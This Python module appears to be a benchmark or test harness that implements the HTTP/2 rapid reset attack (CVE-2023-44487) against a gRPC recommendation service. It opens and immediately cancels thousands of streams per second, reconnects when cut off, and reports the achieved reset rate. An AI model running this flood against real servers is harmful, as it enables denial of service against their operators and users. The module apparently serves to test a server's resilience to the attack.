"""A client that opens calls and resets them at once: the rapid reset attack (CVE-2023-44487)."""

import multiprocessing
import time
from collections.abc import Iterator
from contextlib import closing, contextmanager, suppress
from dataclasses import dataclass
from multiprocessing.sharedctypes import Synchronized
from typing import Final

from bench.http2 import CANCEL, RST_STREAM, Connection, call, call_headers, frame

METHOD: Final = "/tandem.v1.RecommendationService/Recommend"
PER_SECOND: Final = 10_000
BURST_SECONDS: Final = 0.01
_LAST_STREAM: Final = 2**31 - 1


@dataclass
class Resets:
    """What such a client did."""

    per_second: float = 0.0


@contextmanager
def resetting(address: str, per_second: int = PER_SECOND) -> Iterator[Resets]:
    """Runs one in a process of its own, for as long as the block takes.

    Yields:
        What it did, once the block is over.
    """
    context = multiprocessing.get_context("spawn")
    count = context.Value("Q", 0)
    process = context.Process(target=reset_on, args=(address, per_second, count), daemon=True)
    process.start()
    try:
        while not count.value:
            if not process.is_alive():
                raise ChildProcessError("the resetting client ended")
            time.sleep(0.01)
        started, before, resets = time.perf_counter(), count.value, Resets()
        yield resets
        resets.per_second = (count.value - before) / (time.perf_counter() - started)
    finally:
        process.terminate()
        process.join()


def reset_on(address: str, per_second: int, count: "Synchronized[int]") -> None:
    """Opens and resets calls forever; connects again whenever it is cut off."""
    while True:
        with suppress(ConnectionError), closing(Connection(address)) as connection:
            _reset_until_cut_off(connection, per_second, count)


def _reset_until_cut_off(
    connection: Connection, per_second: int, count: "Synchronized[int]"
) -> None:
    headers, burst = call_headers(METHOD, 2), max(1, round(per_second * BURST_SECONDS))
    stream, due = 1, time.perf_counter()
    while stream + 2 * burst < _LAST_STREAM:
        streams = range(stream, stream + 2 * burst, 2)
        connection.send(
            b"".join(call(s, headers, b"") + frame(RST_STREAM, 0, s, CANCEL) for s in streams)
        )
        for _ in connection.frames():
            pass
        stream += 2 * burst
        count.value += burst
        due += BURST_SECONDS
        time.sleep(max(0.0, due - time.perf_counter()))
